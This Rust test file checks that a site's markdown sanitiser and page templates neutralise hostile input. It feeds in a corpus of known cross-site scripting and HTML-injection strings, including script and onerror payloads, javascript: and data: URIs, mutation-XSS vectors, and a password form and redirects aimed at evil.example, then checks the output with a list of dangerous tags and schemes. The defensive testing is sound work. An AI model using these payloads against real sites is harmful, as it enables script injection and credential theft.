//! Metadata written by someone who means harm is shown and does nothing.

use super::fixtures::{hostile, page, site};
use crate::pages::views::Section;
use crate::pages::{Context, Pages, PagesSettings, markdown};

/// Ways to run a script that were found in real pages or in the lists of those who look for them.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "<img src=https://evil.example/pixel.png>",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//http://",
    "\tjava\nscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;inset:0\" onclick=alert(1) class=\"th-hero\" id=main>x</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example></object><embed src=x>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<x hx-get=\"/data\" hx-trigger=load data-copy=x>y</x>",
    "{{ site.name }}{% include 'base.html' %}",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "\u{2028}alert(1)\u{2029}",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<h1>Big</h1><h2 onmouseover=alert(1)>Bigger</h2>",
];

/// What the sanitised HTML or the page must never hold. Text shown as text has its `<` escaped and so is not found.
fn faults(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1) {
        let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        let name = name.to_lowercase();
        if [
            "script", "style", "iframe", "object", "embed", "img", "form", "input", "base", "meta", "link",
            "math", "svg", "textarea", "details",
        ]
        .contains(&name.as_str())
        {
            found.push(format!("<{tag}>"));
        }
        for (attribute, value) in attributes(tag) {
            let value = value.trim_start().to_lowercase();
            let leads_astray =
                ["javascript:", "vbscript:", "data:", "//"].iter().any(|bad| value.starts_with(bad));
            if attribute.starts_with("on")
                || attribute == "style"
                || attribute.starts_with("hx-")
                || (["href", "src", "action"].contains(&attribute.as_str()) && leads_astray)
            {
                found.push(format!("<{tag}>"));
            }
        }
    }
    found
}

/// The attributes of a tag with double-quoted values, which is how both the sanitiser and our templates write them.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut rest = tag;
    let mut found = Vec::new();
    while let Some(at) = rest.find("=\"") {
        let name = rest[..at].rsplit(char::is_whitespace).next().unwrap_or_default().to_lowercase();
        let value = &rest[at + 2..];
        let end = value.find('"').unwrap_or(value.len());
        found.push((name, value[..end].to_owned()));
        rest = value.get(end + 1..).unwrap_or_default();
    }
    found
}

#[test]
fn descriptions_come_out_harmless_and_sanitising_twice_changes_nothing() {
    for text in CORPUS {
        let html = markdown::to_html(text, 3);
        assert_eq!(faults(&html), Vec::<String>::new(), "{text:?} became {html:?}");
        assert!(!html.contains(" id=") && !html.contains(" class="), "{text:?} became {html:?}");
    }
}

#[test]
fn a_dataset_of_hostile_strings_makes_a_harmless_page() {
    let (pages, site) = (Pages::new(PagesSettings::default()), site());
    let harmless = render(&pages, &site, "harmless");
    let expected = faults(&harmless);
    for text in CORPUS {
        let html = render(&pages, &site, text);
        // The page has icons, a search form and the like; the strings must add nothing to them.
        let body = html.split("<main").nth(1).unwrap();
        let added: Vec<String> =
            faults(body).into_iter().filter(|tag| !expected.contains(tag) && !is_ours(tag)).collect();
        assert_eq!(added, Vec::<String>::new(), "{text:?}");
        assert_eq!(html.matches("<script").count(), 3, "{text:?}");
        assert_eq!(html.matches("</script").count(), 3, "{text:?}");
    }
}

/// The data block is JSON, whatever is in it, and gives back what went in.
#[test]
fn the_data_block_cannot_be_left() {
    let (pages, site) = (Pages::new(PagesSettings::default()), site());
    for text in CORPUS {
        let html = render(&pages, &site, text);
        let block = html
            .split("<script type=\"application/ld+json\">")
            .nth(1)
            .unwrap()
            .split("</script>")
            .next()
            .unwrap();
        let value: serde_json::Value = serde_json::from_str(block).unwrap();
        assert_eq!(value["name"], **text);
    }
}

fn render(pages: &Pages, site: &crate::pages::views::SiteView, text: &str) -> String {
    let meta = page(text, "/data/x", Section::Data);
    pages.render("dataset.html", &Context { site, page: &meta, view: &hostile(text) }).unwrap()
}

/// Icons and drawings of our own.
fn is_ours(tag: &str) -> bool {
    tag.starts_with("<svg class=\"th-") || tag == "</svg>" || tag == "<svg>"
}
